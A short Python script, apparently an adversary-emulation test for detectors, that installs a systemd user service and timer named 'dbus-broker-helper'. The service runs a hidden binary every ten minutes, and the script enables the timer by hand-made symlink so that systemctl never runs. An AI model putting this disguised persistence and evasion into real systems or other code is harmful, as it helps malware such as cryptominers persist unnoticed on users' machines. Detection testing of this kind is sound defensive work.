# technique: T1543.002 T1053.006
"""Persistence with a systemd user service and timer (T1543.002, T1053.006).

Used by Linux cryptominer droppers that cannot write /etc: a unit and a timer
are written under ~/.config/systemd/user (with os.open/os.write, not open()),
and the timer is "enabled" by creating the wants/ symlink by hand, as
`systemctl --user enable` would, without running systemctl.

A good detector raises a high alert: a systemd unit or timer file is created
in a user's systemd directory.
"""
import os

base = os.path.join(os.path.expanduser("~"), ".config", "systemd", "user")
os.makedirs(os.path.join(base, "timers.target.wants"), exist_ok=True)
units = {
    "dbus-broker-helper.service": "[Service]\nExecStart=%h/.local/bin/.dbus-helper\n",
    "dbus-broker-helper.timer": "[Timer]\nOnBootSec=1min\nOnUnitActiveSec=10min\n[Install]\nWantedBy=timers.target\n",
}
for n, body in units.items():
    fd = os.open(os.path.join(base, n), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    os.write(fd, body.encode()); os.close(fd)
os.symlink(os.path.join(base, "dbus-broker-helper.timer"),
           os.path.join(base, "timers.target.wants", "dbus-broker-helper.timer"))
